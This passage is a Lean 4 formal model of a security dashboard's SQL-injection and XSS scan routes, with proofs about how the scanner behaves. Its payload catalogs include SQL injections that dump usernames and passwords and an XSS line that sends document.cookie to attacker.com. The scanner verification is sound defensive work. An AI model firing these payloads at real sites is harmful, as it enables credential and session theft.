import Mathlib

/-!
# Verification of the vulnerability-probing pipeline

A shallow embedding of the SQL-injection and XSS scan endpoints of the
security-testing dashboard (`src/server/routes.ts`), together with theorems
settling the specification's claims about them.

External collaborators (the HTTP client `axios`, the WHATWG `URL` parser,
`JSDOM` extraction of script/form elements, and `crypto.randomBytes`) are
modelled as explicit parameters (`SqlEnv` / `XssEnv` records and a `parse`
function), so every scan is a pure function of the environment's answers.
-/

namespace EHT

/-- Substring containment on character lists: does `pat` occur contiguously
inside `s`? -/
def listContains : List Char → List Char → Bool
  | [], pat => pat.isPrefixOf []
  | c :: cs, pat => pat.isPrefixOf (c :: cs) || listContains cs pat

/-- JavaScript `String.prototype.includes`: substring containment. -/
def containsStr (hay pat : String) : Bool :=
  listContains hay.toList pat.toList

/-- Core of `replaceFirst` on character lists: replace the first occurrence
of `pat` (JavaScript `String.prototype.replace` with a string pattern
replaces only the first match; an empty pattern matches at position 0). -/
def listReplaceFirst (s pat rep : List Char) : List Char :=
  if pat.isPrefixOf s then rep ++ s.drop pat.length
  else
    match s with
    | [] => []
    | c :: cs => c :: listReplaceFirst cs pat rep

/-- JavaScript `s.replace(pat, rep)` with a plain-string `pat`: replaces at
most the first occurrence of `pat` in `s`. -/
def replaceFirst (s pat rep : String) : String :=
  ⟨listReplaceFirst s.toList pat.toList rep.toList⟩

/-- SQL-injection payload catalog (`payloads` in the route), keyed by
`testLevel`; an unknown level is `none` (JS yields `undefined`). -/
def payloads (testLevel : String) : Option (List String) :=
  if testLevel = "basic" then some
    ["' OR '1'='1",
     "1' OR '1'='1",
     "1 OR 1=1",
     "' --",
     "1' --"]
  else if testLevel = "intermediate" then some
    ["' OR '1'='1' --",
     "\" OR \"1\"=\"1\" --",
     "1' OR '1'='1' --",
     "' OR 1=1 --",
     "' OR 'x'='x",
     "' AND 1=0 UNION SELECT 1,2,3 --",
     "')) OR 1=1 --"]
  else if testLevel = "advanced" then some
    ["' OR '1'='1' --",
     "\" OR \"1\"=\"1\" --",
     "' OR 'x'='x' --",
     "')) OR 1=1 --",
     "' OR 1=1 LIMIT 1 --",
     "1' ORDER BY 1 --",
     "1' ORDER BY 10 --",
     "1' UNION SELECT null --",
     "1' UNION SELECT null,null --",
     "' AND 1=0 UNION SELECT 1,2,concat(username,':',password) FROM users --",
     "' AND 1=0 UNION SELECT 1,2,table_name FROM information_schema.tables --"]
  else none

/-- XSS payload catalog (`defaultPayloads` in the route), keyed by
`scanDepth`; an unknown depth is `none` (JS yields `undefined`). -/
def defaultPayloads (scanDepth : String) : Option (List String) :=
  if scanDepth = "shallow" then some
    ["<script>alert('XSS')</script>",
     "<img src='x' onerror='alert(\"XSS\")'>",
     "\"><script>alert('XSS')</script>"]
  else if scanDepth = "normal" then some
    ["<script>alert('XSS')</script>",
     "<img src='x' onerror='alert(\"XSS\")'>",
     "\"><script>alert('XSS')</script>",
     "<svg onload='alert(\"XSS\")'>",
     "javascript:alert('XSS')",
     "<body onload='alert(\"XSS\")'>",
     "<div style='background-image:url(javascript:alert(\"XSS\"))'>"]
  else if scanDepth = "deep" then some
    ["<script>alert('XSS')</script>",
     "<img src='x' onerror='alert(\"XSS\")'>",
     "\"><script>alert('XSS')</script>",
     "<svg onload='alert(\"XSS\")'>",
     "javascript:alert('XSS')",
     "<body onload='alert(\"XSS\")'>",
     "<div style='background-image:url(javascript:alert(\"XSS\"))'>",
     "<iframe src='javascript:alert(\"XSS\")'></iframe>",
     "<a href='javascript:alert(\"XSS\")'>Click me</a>",
     "<input type='text' value='\" onfocus=\"alert(\"XSS\")\" autofocus=\"'>",
     "'-prompt(1)-'",
     "1';a=prompt,a(1)//",
     "<img src=x onerror=prompt(document.domain)>",
     "<scr\\x69pt>alert(1)</scr\\x69pt>",
     "<script>fetch('https://attacker.com/steal?cookie='+document.cookie)</script>"]
  else none

/-- A parsed absolute URL, reduced to what the routes read from it: the
ordered list of query parameters (`searchParams` iteration order). -/
structure ParsedUrl where
  searchParams : List (String × String)
deriving Repr, DecidableEq

/-- Split a character list at every occurrence of a separator character
(JavaScript `String.prototype.split` with a one-character separator). -/
def splitOnChar (sep : Char) : List Char → List (List Char)
  | [] => [[]]
  | c :: cs =>
    if c = sep then [] :: splitOnChar sep cs
    else
      match splitOnChar sep cs with
      | [] => [[c]]
      | g :: gs => (c :: g) :: gs

/-- JavaScript `String.prototype.trim` on a character list. -/
def jsTrim (cs : List Char) : List Char :=
  ((cs.dropWhile Char.isWhitespace).reverse.dropWhile Char.isWhitespace).reverse

/-- Model of the WHATWG URL parser (Node's `URL` constructor) for the
features the routes use: parsing succeeds exactly for strings that contain
`://`, do not start with `:`, and contain no spaces; the query pairs are
the non-empty `&`-separated `k=v` chunks between the first `?` and the
fragment, the value being everything after the first `=` (empty when no
`=`). `new URL(url)` throwing is `none`. -/
def parseURLModel (s : String) : Option ParsedUrl :=
  let cs := s.toList
  if !listContains cs [':', '/', '/'] || cs.headD ':' == ':' || cs.contains ' ' then none
  else
    let noFrag := cs.takeWhile (fun c => c ≠ '#')
    if noFrag.contains '?' then
      let q := (noFrag.dropWhile (fun c => c ≠ '?')).drop 1
      some ⟨(splitOnChar '&' q).filterMap (fun kv =>
        if kv.isEmpty then none
        else
          some (String.mk (kv.takeWhile (fun c => c ≠ '=')),
                String.mk ((kv.dropWhile (fun c => c ≠ '=')).drop 1)))⟩
    else some ⟨[]⟩

/-- `paramNames.split(',')` with per-entry `trim`, keeping non-empty names. -/
def splitParams (paramNames : String) : List String :=
  (((splitOnChar ',' paramNames.toList).map jsTrim).map String.mk).filter (fun p => p != "")

/-- Insertion into a JS `Set`, materialized as an insertion-ordered
duplicate-free list. -/
def insertUnique (l : List String) (x : String) : List String :=
  if x ∈ l then l else l ++ [x]

/-- `targetParams`: query-string keys of the URL plus (when `paramNames` is
truthy) the trimmed non-empty caller-supplied names, deduplicated in
insertion order. -/
def targetParams (pu : ParsedUrl) (paramNames : Option String) : List String :=
  let fromUrl := (pu.searchParams.map Prod.fst).foldl insertUnique []
  match paramNames with
  | none => fromUrl
  | some pn => if pn = "" then fromUrl else (splitParams pn).foldl insertUnique fromUrl

/-- One SQL-injection finding (the `vuln` objects the route pushes). -/
structure SqlVuln where
  parameter : String
  severity : String
  details : String
  url : String
  payload : String
  pattern : Option String
deriving Repr, DecidableEq

/-- The fixed SQL error-string signatures checked against response bodies,
in the order the route checks them. -/
def errorPatterns : List String :=
  ["SQL syntax",
   "mysql_fetch",
   "You have an error in your SQL syntax",
   "ORA-",
   "Oracle Error",
   "Microsoft OLE DB Provider for SQL Server",
   "ODBC Driver",
   "Unclosed quotation mark after the character string",
   "PostgreSQL",
   "supplied argument is not a valid PostgreSQL result",
   "pg_query() [function.pg-query]"]

/-- The `for (const pattern of errorPatterns) ... break` loop: the first
error pattern contained in the response body, if any. -/
def sqlDetectError (body : String) : Option String :=
  errorPatterns.find? (fun p => containsStr body p)

/-- The auth-bypass heuristic's "success" marker test. -/
def hasBypassMarker (body : String) : Bool :=
  containsStr body "Welcome" || containsStr body "Dashboard" || containsStr body "Logged in"

/-- Push a finding unless one with the same (parameter, payload) pair is
already present (the `results.vulnerabilities.some(...)` guard). -/
def pushUnique (vs : List SqlVuln) (v : SqlVuln) : List SqlVuln :=
  if vs.any (fun w => w.parameter == v.parameter && w.payload == v.payload) then vs
  else vs ++ [v]

/-- The SQLi route's effectful collaborators: `fetch` is `axios.get`
(`none` = the request threw), and `setParam p v` is the string
`testUrl.toString()` after `testUrl.searchParams.set(p, v)` on a clone of
the scan's URL. Basic-auth options do not change the URL, so they are
absorbed into `fetch`. -/
structure SqlEnv where
  fetch : String → Option String
  setParam : String → String → String

/-- Mutable state of the probe loop. `requestCount` is not a response
field: it counts outbound requests, to state "no probing happened". -/
structure SqlState where
  vulns : List SqlVuln
  testedUrls : List String
  requestCount : Nat
deriving Repr, DecidableEq

def mkErrorVuln (param payload turl pat : String) : SqlVuln :=
  { parameter := param, severity := "high",
    details := "SQL error detected in response after injecting payload into parameter '" ++ param ++ "'",
    url := turl, payload := payload, pattern := some pat }

def mkBypassVuln (param payload turl : String) : SqlVuln :=
  { parameter := param, severity := "high",
    details := "Possible SQL injection success detected. The payload may have bypassed authentication or authorization.",
    url := turl, payload := payload, pattern := none }

/-- One iteration of the SQLi probe loop for a (parameter, payload) pair:
record the mutated URL, issue the GET, and on success run the
error-pattern detector and then the auth-bypass heuristic (with its
control request, whose own failure is swallowed) on the body. -/
def processProbe (env : SqlEnv) (st : SqlState) (param payload : String) : SqlState :=
  let turl := env.setParam param payload
  let st := { st with testedUrls := st.testedUrls ++ [turl],
                      requestCount := st.requestCount + 1 }
  match env.fetch turl with
  | none => st
  | some body =>
    let st :=
      match sqlDetectError body with
      | some pat => { st with vulns := pushUnique st.vulns (mkErrorVuln param payload turl pat) }
      | none => st
    if hasBypassMarker body then
      let st := { st with requestCount := st.requestCount + 1 }
      match env.fetch (env.setParam param "invalid_value_that_should_fail") with
      | none => st
      | some controlBody =>
        if hasBypassMarker controlBody then st
        else { st with vulns := pushUnique st.vulns (mkBypassVuln param payload turl) }
    else st

/-- The `results` object of the SQL-injection route, plus the request
count (not a response field). -/
structure SqlResults where
  vulnerabilities : List SqlVuln
  testedUrls : List String
  testedParams : List String
  error : Option String
  requestCount : Nat
deriving Repr, DecidableEq

/-- The message JavaScript raises when `payloads[testLevel]` is
`undefined` and the `for...of` loop tries to iterate it; stored into
`results.error` by the middle `catch`. -/
def notIterableMsg : String := "payloads[testLevel] is not iterable"

/-- The body of the SQL-injection route after URL parsing: parameter
extraction, the nested parameter × payload probe loop, and result
assembly. -/
def sqlScan (env : SqlEnv) (pu : ParsedUrl) (paramNames : Option String)
    (testLevel : String) : SqlResults :=
  let tparams := targetParams pu paramNames
  if tparams.isEmpty then
    { vulnerabilities := [], testedUrls := [], testedParams := tparams,
      error := some "No parameters found to test for SQL injection", requestCount := 0 }
  else
    match payloads testLevel with
    | none =>
      { vulnerabilities := [], testedUrls := [], testedParams := tparams,
        error := some notIterableMsg, requestCount := 0 }
    | some ps =>
      let final := tparams.foldl
        (fun st param => ps.foldl (fun st payload => processProbe env st param payload) st)
        ⟨[], [], 0⟩
      { vulnerabilities := final.vulns, testedUrls := final.testedUrls,
        testedParams := tparams, error := none, requestCount := final.requestCount }

/-- How an endpoint invocation resolves at the HTTP layer: 400 for a
missing/empty `url`, an error escalated to the Express error middleware
through `next(error)` (no scan record created), or 200 with a results
object and a scan record carrying the given status. -/
inductive HandlerResponse (R : Type) where
  | badRequest
  | ok (results : R) (scanStatus : String)
  | errorNext
deriving Repr, DecidableEq

/-- `POST /api/tools/sql-injection`: missing/empty `url` is a 400; a `url`
the URL parser rejects throws before the inner `try`, escalating through
`next(error)`; otherwise the scan runs, a scan record with status
"completed" holding the results is created, and the response is 200
`{results, scanId}`. -/
def sqlInjectionHandler (env : SqlEnv) (parse : String → Option ParsedUrl)
    (url : Option String) (paramNames : Option String) (testLevel : String) :
    HandlerResponse SqlResults :=
  match url with
  | none => .badRequest
  | some u =>
    if u = "" then .badRequest
    else
      match parse u with
      | none => .errorNext
      | some pu => .ok (sqlScan env pu paramNames testLevel) "completed"

/-- One XSS finding (the `vuln` objects the XSS route pushes). -/
structure XssVuln where
  type : String
  location : String
  severity : String
  context : String
  payload : Option String
  description : String
  remediation : String
deriving Repr, DecidableEq

/-- A form discovered by JSDOM on the baseline page: its `action`
attribute (`none` when absent) and the number of free-text inputs
(`input[type="text"], textarea`) it contains. -/
structure XForm where
  action : Option String
  textInputCount : Nat
deriving Repr, DecidableEq

/-- The XSS route's effectful collaborators: `fetch` is `axios.get`
(`none` = the request threw); `setParam p v` / `setHash v` serialize the
scan's URL with the query parameter `p` set to `v` / the fragment set to
`v`; `tokenFor p payload` is the hex token `crypto.randomBytes(8)` yields
for the confirmation probe of that (parameter, payload); `extractScripts`
and `extractForms` are JSDOM's script `textContent`s and form elements of
an HTML body. -/
structure XssEnv where
  fetch : String → Option String
  setParam : String → String → String
  setHash : String → String
  tokenFor : String → String → String
  extractScripts : String → List String
  extractForms : String → List XForm

/-- Mutable state of the XSS testing block. -/
structure XssState where
  vulns : List XssVuln
  requestCount : Nat
deriving Repr, DecidableEq

def mkReflectedVuln (param payload : String) : XssVuln :=
  { type := "Reflected", location := "URL parameter '" ++ param ++ "'", severity := "high",
    context := "The parameter value is reflected without proper encoding or filtering",
    payload := some payload,
    description := "Reflected XSS occurs when user input is immediately returned by a web application in an error message, search result, or any other response that includes some or all of the input sent to the server as part of the request.",
    remediation := "Implement proper input validation, HTML encoding, and consider Content-Security-Policy headers." }

def mkDomSinkVuln (pat : String) : XssVuln :=
  { type := "DOM-based", location := "JavaScript", severity := "medium",
    context := "Potential DOM XSS sink '" ++ pat ++ "' found with user-controllable input source",
    payload := none,
    description := "DOM-based XSS occurs when client-side JavaScript dynamically writes user input to the page. Such vulnerabilities can be exploited even when the vulnerable code is in static HTML pages that don't interact with the server after they have been loaded.",
    remediation := "Use safe DOM APIs like textContent instead of innerHTML, and sanitize user input before inserting it into the DOM." }

def mkFragmentVuln (payload : String) : XssVuln :=
  { type := "DOM-based", location := "URL fragment (#)", severity := "medium",
    context := "The application appears to process URL fragments with JavaScript",
    payload := some payload,
    description := "URL fragments are processed by client-side code and could be vulnerable to DOM-based XSS if not properly sanitized before being used in document operations.",
    remediation := "Sanitize URL fragment values before inserting them into the DOM. Consider using DOMPurify or similar libraries." }

def mkStoredVuln (formAction : String) : XssVuln :=
  { type := "Potentially Stored",
    location := "Form with action '" ++ (if formAction = "" then "unspecified" else formAction) ++ "'",
    severity := "medium",
    context := "Form with text inputs detected - could be vulnerable to stored XSS if user input isn't properly sanitized before storage and display",
    payload := none,
    description := "Stored XSS occurs when an application receives user-supplied data and includes it in later HTTP responses in an unsafe way. Common targets include comment forms, user profiles, and forum posts.",
    remediation := "Always sanitize user input on the server side before storing it, and encode it when outputting to prevent script execution." }

/-- `Map.set` semantics on an insertion-ordered association list. -/
def mapSet (m : List (String × String)) (k v : String) : List (String × String) :=
  if m.any (fun p => p.1 == k) then m.map (fun p => if p.1 == k then (k, v) else p)
  else m ++ [(k, v)]

/-- The `injectionPoints` map built from the URL's query parameters. -/
def injectionPointsOf (pu : ParsedUrl) : List (String × String) :=
  pu.searchParams.foldl (fun m kv => mapSet m kv.1 kv.2) []

/-- The tokenized confirmation payload: the literal substring "XSS" in the
payload replaced (first occurrence only) by the drawn hex token. -/
def tokenizedOf (env : XssEnv) (param payload : String) : String :=
  replaceFirst payload "XSS" (env.tokenFor param payload)

/-- One reflected-XSS probe of a (parameter, payload) pair: request the
URL with the parameter set to the payload; if the payload appears in the
body, re-request with the tokenized payload, and confirm a finding only if
the tokenized payload appears in the confirmation body. Returns the
confirmed finding (if any) and the number of requests issued. -/
def reflectedStep (env : XssEnv) (param payload : String) : Option XssVuln × Nat :=
  match env.fetch (env.setParam param payload) with
  | none => (none, 1)
  | some body =>
    if containsStr body payload then
      let tokenized := tokenizedOf env param payload
      match env.fetch (env.setParam param tokenized) with
      | none => (none, 2)
      | some tokenBody =>
        if containsStr tokenBody tokenized then (some (mkReflectedVuln param payload), 2)
        else (none, 2)
    else (none, 1)

/-- The inner payload loop of reflected testing for one parameter: probe
payloads in order, stopping after the first confirmed reflection. -/
def reflectedParamLoop (env : XssEnv) (param : String) :
    List String → XssState → XssState
  | [], st => st
  | p :: rest, st =>
    match reflectedStep env param p with
    | (some v, n) => { st with vulns := st.vulns ++ [v], requestCount := st.requestCount + n }
    | (none, n) => reflectedParamLoop env param rest { st with requestCount := st.requestCount + n }

/-- The message JavaScript raises when the reflected loop's `for...of`
iterates an `undefined` payload list; it escapes the testing block and the
outer `catch` stores it in `results.error`. -/
def xssNotIterableMsg : String := "payloads is not iterable"

/-- The reflected-XSS phase over all injection points. With at least one
injection point but an `undefined` payload list, the first `for...of` over
the payloads throws out of the testing block. -/
def reflectedPhase (env : XssEnv) (payloadsOpt : Option (List String))
    (points : List (String × String)) (st : XssState) :
    Except (XssState × String) XssState :=
  match points with
  | [] => .ok st
  | _ =>
    match payloadsOpt with
    | none => .error (st, xssNotIterableMsg)
    | some ps => .ok (points.foldl (fun s pv => reflectedParamLoop env pv.1 ps s) st)

/-- The DOM sink call patterns searched for in script contents, in the
order the route checks them. -/
def domSinkPatterns : List String :=
  ["document.write(",
   "innerHTML",
   "outerHTML",
   "insertAdjacentHTML",
   "location",
   "location.href",
   "location.hash",
   "location.search",
   "eval(",
   "setTimeout(",
   "setInterval(",
   "document.cookie",
   "document.domain",
   "execScript(",
   "jQuery"]

/-- Does the script text also reference a user-controllable source? -/
def hasUserSource (script : String) : Bool :=
  containsStr script "location.hash" || containsStr script "location.search" ||
    containsStr script "document.URL"

/-- DOM-sink scanning of one script: one finding per sink pattern found in
the script whenever the script also references a user-controllable
source — the pattern loop does not break or deduplicate. -/
def domSinkVulnsOfScript (script : String) : List XssVuln :=
  domSinkPatterns.filterMap (fun pat =>
    if containsStr script pat && hasUserSource script then some (mkDomSinkVuln pat) else none)

/-- Does a fragment-probe response body suggest client-side fragment
handling? -/
def fragmentSignal (body : String) : Bool :=
  containsStr body "location.hash" || containsStr body "window.location.hash"

/-- The fragment-probe loop: request the URL with the fragment set to each
payload in turn; report a finding at the first response that references
`location.hash` and stop. Individual request failures are swallowed and
the loop continues. -/
def fragmentLoop (env : XssEnv) : List String → XssState → XssState
  | [], st => st
  | p :: rest, st =>
    let st := { st with requestCount := st.requestCount + 1 }
    match env.fetch (env.setHash p) with
    | none => fragmentLoop env rest st
    | some body =>
      if fragmentSignal body then { st with vulns := st.vulns ++ [mkFragmentVuln p] }
      else fragmentLoop env rest st

/-- The DOM-XSS phase: one baseline GET, static sink scanning over the
page's scripts, then the fragment-probe loop. A baseline-request failure
(or the fragment `for...of` hitting an `undefined` payload list) aborts
the remainder of the phase silently — its `catch` ignores the error. -/
def domPhase (env : XssEnv) (payloadsOpt : Option (List String)) (url : String)
    (st : XssState) : XssState :=
  let st := { st with requestCount := st.requestCount + 1 }
  match env.fetch url with
  | none => st
  | some body =>
    let st := { st with vulns := st.vulns ++ ((env.extractScripts body).map domSinkVulnsOfScript).flatten }
    match payloadsOpt with
    | none => st
    | some ps => fragmentLoop env ps st

/-- The stored-XSS phase: one baseline GET; every form with at least one
free-text input yields a medium finding. Failures are swallowed. -/
def storedPhase (env : XssEnv) (url : String) (st : XssState) : XssState :=
  let st := { st with requestCount := st.requestCount + 1 }
  match env.fetch url with
  | none => st
  | some body =>
    { st with vulns := st.vulns ++ (env.extractForms body).filterMap (fun f =>
        if f.textInputCount > 0 then some (mkStoredVuln (f.action.getD "")) else none) }

/-- The coarse letter grade computed from the finding list (`highCount`
and `mediumCount` are the severity-filtered lengths, inlined). -/
def securityScore (vulns : List XssVuln) : String :=
  if vulns.length = 0 then "A"
  else if (vulns.filter (fun v => v.severity == "high")).length > 0 then "F"
  else if (vulns.filter (fun v => v.severity == "medium")).length > 2 then "D"
  else if (vulns.filter (fun v => v.severity == "medium")).length > 0 then "C"
  else "B"

/-- The fixed recommendation list attached to every XSS result. -/
def xssRecommendations : List String :=
  ["Implement proper input validation and sanitization",
   "Use Content Security Policy (CSP) headers",
   "Apply the principle of least privilege when executing user input",
   "Consider using a web application firewall (WAF)",
   "Keep frameworks and libraries updated to patch known XSS vulnerabilities"]

/-- The `results` object of the XSS route, plus the request count (not a
response field). -/
structure XssResults where
  vulnerabilities : List XssVuln
  injectionPoints : List String
  securityScore : Option String
  recommendations : List String
  error : Option String
  requestCount : Nat
deriving Repr, DecidableEq

/-- The XSS scan body after URL parsing: injection-point extraction, the
reflected / DOM / stored phases gated by `scanType`, scoring, and result
assembly. When the injection-point map is empty only the *reported*
`injectionPoints` field is replaced by `["page-content"]`; the probing
loops still iterate the empty map. -/
def xssScan (env : XssEnv) (payloadsOpt : Option (List String)) (scanType : String)
    (url : String) (pu : ParsedUrl) : XssResults :=
  let points := injectionPointsOf pu
  let reported := if points.isEmpty then ["page-content"] else points.map Prod.fst
  let testReflected := scanType == "reflected" || scanType == "comprehensive"
  let testDOM := scanType == "dom" || scanType == "comprehensive"
  let testStored := scanType == "stored" || scanType == "comprehensive"
  let phase1 :=
    if testReflected then reflectedPhase env payloadsOpt points ⟨[], 0⟩ else .ok ⟨[], 0⟩
  match phase1 with
  | .error (st, msg) =>
    { vulnerabilities := st.vulns, injectionPoints := reported, securityScore := none,
      recommendations := xssRecommendations, error := some msg,
      requestCount := st.requestCount }
  | .ok st =>
    let st := if testDOM then domPhase env payloadsOpt url st else st
    let st := if testStored then storedPhase env url st else st
    { vulnerabilities := st.vulns, injectionPoints := reported,
      securityScore := some (securityScore st.vulns),
      recommendations := xssRecommendations, error := none,
      requestCount := st.requestCount }

/-- The effective catalog key: `scanDepth || 'normal'`. -/
def depthKey (scanDepth : Option String) : String :=
  match scanDepth with
  | none => "normal"
  | some d => if d = "" then "normal" else d

/-- Payload selection: a truthy `customPayloads` overrides the catalog
(newline-split, entries whose trim is empty dropped, untrimmed entries
kept); otherwise the catalog list for `scanDepth || 'normal'`. -/
def selectPayloads (customPayloads : Option String) (scanDepth : Option String) :
    Option (List String) :=
  match customPayloads with
  | some cp =>
    if cp = "" then defaultPayloads (depthKey scanDepth)
    else some (((splitOnChar '\n' cp.toList).map String.mk).filter
      (fun p => (jsTrim p.toList).length > 0))
  | none => defaultPayloads (depthKey scanDepth)

/-- `POST /api/tools/xss-scan`: missing/empty `url` is a 400; payload
selection happens first; a `url` the URL parser rejects throws before the
testing block, escalating through `next(error)`; otherwise the scan runs,
a scan record with status "completed" holding the results is created, and
the response is 200 `{results, scanId}`. -/
def xssScanHandler (env : XssEnv) (parse : String → Option ParsedUrl)
    (url : Option String) (customPayloads : Option String) (scanType : String)
    (scanDepth : Option String) : HandlerResponse XssResults :=
  match url with
  | none => .badRequest
  | some u =>
    if u = "" then .badRequest
    else
      let payloadsOpt := selectPayloads customPayloads scanDepth
      match parse u with
      | none => .errorNext
      | some pu => .ok (xssScan env payloadsOpt scanType u pu) "completed"

/-- Whether the fragment probe for one payload gets a confirming response:
the request succeeds and its body references `location.hash`. Abbreviates
the per-payload test inside `fragmentLoop` for stating its termination
behavior. -/
def fragConfirms (env : XssEnv) (p : String) : Bool :=
  match env.fetch (env.setHash p) with
  | none => false
  | some body => fragmentSignal body

/-- A minimal concrete SQLi environment (constant response body) for
instantiating theorems. -/
def testSqlEnv (body : Option String) : SqlEnv :=
  { fetch := fun _ => body, setParam := fun p v => p ++ "=" ++ v }

/-- A minimal concrete XSS environment (constant response body and fixed
extracted scripts) for instantiating theorems. -/
def testXssEnv (body : String) (scripts : List String) : XssEnv :=
  { fetch := fun _ => some body, setParam := fun _ v => v, setHash := id,
    tokenFor := fun _ _ => "beef1234", extractScripts := fun _ => scripts,
    extractForms := fun _ => [] }

/-- Two findings do not collide for deduplication purposes: they differ in
parameter or in payload. -/
def sqlVulnDistinct (v w : SqlVuln) : Prop :=
  ¬(v.parameter = w.parameter ∧ v.payload = w.payload)

/-!
## Helper lemmas
-/

theorem listContains_iff (s pat : List Char) : listContains s pat = true ↔ pat <:+: s := by
  induction s with
  | nil =>
    simp only [listContains, List.isPrefixOf_iff_prefix, List.prefix_nil, List.infix_nil]
  | cons c cs ih =>
    simp only [listContains, Bool.or_eq_true, List.isPrefixOf_iff_prefix, ih,
      List.infix_cons_iff]

theorem containsStr_trans {body p1 p2 : String} (h1 : containsStr p2 p1 = true)
    (h2 : containsStr body p2 = true) : containsStr body p1 = true := by
  rw [containsStr, listContains_iff] at h1 h2 ⊢
  exact h1.trans h2

theorem foldl_invariant {α β : Type} (P : β → Prop) (f : β → α → β) (l : List α) (st : β)
    (h0 : P st) (hstep : ∀ st a, P st → P (f st a)) : P (l.foldl f st) := by
  induction l generalizing st with
  | nil => exact h0
  | cons a l ih => exact ih (f st a) (hstep st a h0)

theorem listReplaceFirst_eq_of_not_contains (s pat rep : List Char)
    (h : listContains s pat = false) : listReplaceFirst s pat rep = s := by
  induction s with
  | nil =>
    simp only [listContains] at h
    rw [listReplaceFirst, if_neg (by simp [h])]
  | cons c cs ih =>
    simp only [listContains, Bool.or_eq_false_iff] at h
    rw [listReplaceFirst, if_neg (by simp [h.1])]
    rw [ih h.2]

theorem replaceFirst_eq_of_not_contains (s pat rep : String)
    (h : containsStr s pat = false) : replaceFirst s pat rep = s := by
  rw [containsStr] at h
  rw [replaceFirst, listReplaceFirst_eq_of_not_contains _ _ _ h]
  cases s
  rfl

theorem reflectedStep_isSome_iff (env : XssEnv) (param payload : String) :
    (reflectedStep env param payload).1.isSome = true ↔
      ((∃ b1, env.fetch (env.setParam param payload) = some b1 ∧
          containsStr b1 payload = true) ∧
       (∃ b2, env.fetch (env.setParam param (tokenizedOf env param payload)) = some b2 ∧
          containsStr b2 (tokenizedOf env param payload) = true)) := by
  unfold reflectedStep
  cases hf : env.fetch (env.setParam param payload) with
  | none => simp [hf]
  | some b1 =>
    by_cases hc : containsStr b1 payload = true
    · simp only [hc, if_true]
      cases hf2 : env.fetch (env.setParam param (tokenizedOf env param payload)) with
      | none => simp [hf, hf2]
      | some b2 =>
        by_cases hc2 : containsStr b2 (tokenizedOf env param payload) = true
        · simp [hf, hf2, hc, hc2]
        · simp [hf, hf2, hc, hc2]
    · simp [hf, hc]

theorem pushUnique_pairwise (vs : List SqlVuln) (v : SqlVuln)
    (h : List.Pairwise sqlVulnDistinct vs) :
    List.Pairwise sqlVulnDistinct (pushUnique vs v) := by
  unfold pushUnique
  by_cases hc : vs.any (fun w => w.parameter == v.parameter && w.payload == v.payload) = true
  · rw [if_pos hc]
    exact h
  · rw [if_neg hc]
    rw [List.pairwise_append]
    refine ⟨h, List.pairwise_singleton _ _, ?_⟩
    intro a ha b hb
    rw [List.mem_singleton] at hb
    subst hb
    rintro ⟨he1, he2⟩
    exact hc (List.any_eq_true.mpr ⟨a, ha, by simp [he1, he2]⟩)

theorem processProbe_pairwise (env : SqlEnv) (st : SqlState) (param payload : String)
    (h : List.Pairwise sqlVulnDistinct st.vulns) :
    List.Pairwise sqlVulnDistinct (processProbe env st param payload).vulns := by
  unfold processProbe
  dsimp only
  repeat' split
  all_goals dsimp only
  all_goals
    first
      | exact h
      | exact pushUnique_pairwise _ _ h
      | exact pushUnique_pairwise _ _ (pushUnique_pairwise _ _ h)

theorem fragmentLoop_count (env : XssEnv) (ps : List String) (st : XssState) :
    (fragmentLoop env ps st).requestCount = st.requestCount +
      (if ps.any (fun p => fragConfirms env p) = true
       then (ps.takeWhile (fun p => !fragConfirms env p)).length + 1
       else ps.length) := by
  induction ps generalizing st with
  | nil => simp [fragmentLoop]
  | cons p rest ih =>
    unfold fragmentLoop
    cases hf : env.fetch (env.setHash p) with
    | none =>
      have hb : fragConfirms env p = false := by unfold fragConfirms; rw [hf]
      dsimp only
      rw [ih]
      by_cases ha : rest.any (fun q => fragConfirms env q) = true
      · simp [hb, ha, List.takeWhile_cons]
        omega
      · simp [hb, ha, List.takeWhile_cons]
        omega
    | some body =>
      by_cases hsig : fragmentSignal body = true
      · have hcc : fragConfirms env p = true := by
          unfold fragConfirms
          rw [hf]
          exact hsig
        dsimp only
        simp [hsig, hcc, List.takeWhile_cons]
      · have hbb : fragmentSignal body = false := by
          cases hx : fragmentSignal body
          · rfl
          · exact absurd hx hsig
        have hb : fragConfirms env p = false := by
          unfold fragConfirms
          rw [hf]
          exact hbb
        dsimp only
        rw [hbb]
        simp only [Bool.false_eq_true, if_false]
        rw [ih]
        by_cases ha : rest.any (fun q => fragConfirms env q) = true
        · simp [hb, ha, List.takeWhile_cons]
          omega
        · simp [hb, ha, List.takeWhile_cons]
          omega

/-!
## Claim theorems
-/

/-- C4, counterexample: the payload-catalog content-superset claim fails
for the SQL-injection catalog — `"1 OR 1=1"` is a basic payload missing
from the intermediate list, and `"1' OR '1'='1' --"` is an intermediate
payload missing from the advanced list. -/
theorem c4_catalog_counterexample :
    "1 OR 1=1" ∈ (payloads "basic").getD [] ∧
    "1 OR 1=1" ∉ (payloads "intermediate").getD [] ∧
    "1' OR '1'='1' --" ∈ (payloads "intermediate").getD [] ∧
    "1' OR '1'='1' --" ∉ (payloads "advanced").getD [] := by decide

/-- C4 (amended): the catalog lookups are pure functions of (class,
level); each level's list size is ≥ the next-lower level's for both
classes; and for XSS each lower level's list is a prefix (hence a content
subset) of the next higher level's. For SQLi the size ordering holds but
content inclusion does not (see the counterexample). -/
theorem c4_catalog_levels :
    ((defaultPayloads "shallow").getD []).length ≤
      ((defaultPayloads "normal").getD []).length ∧
    ((defaultPayloads "normal").getD []).length ≤
      ((defaultPayloads "deep").getD []).length ∧
    (defaultPayloads "shallow").getD [] <+: (defaultPayloads "normal").getD [] ∧
    (defaultPayloads "normal").getD [] <+: (defaultPayloads "deep").getD [] ∧
    ((defaultPayloads "shallow").getD []).length = 3 ∧
    ((defaultPayloads "deep").getD []).length = 15 ∧
    ((payloads "basic").getD []).length ≤ ((payloads "intermediate").getD []).length ∧
    ((payloads "intermediate").getD []).length ≤ ((payloads "advanced").getD []).length := by
  decide

/-- C1, counterexample: an unparseable `url` does not produce a 200
response with `results.error` set — `new URL(url)` throws before the
testing block and both handlers escalate through `next(error)`, creating
no scan record. -/
theorem c1_counterexample :
    parseURLModel "not a url" = none ∧
    sqlInjectionHandler (testSqlEnv none) parseURLModel
      (some "not a url") none "basic" = .errorNext ∧
    xssScanHandler (testXssEnv "" []) parseURLModel
      (some "not a url") none "comprehensive" none = .errorNext := by decide

/-- C1 (amended): for every authenticated request to either endpoint whose
`url` field is present (non-empty) but not a parseable absolute URL, the
URL-parse error escalates to the Express error middleware via
`next(error)`: the handler does not answer 200 with a results object and
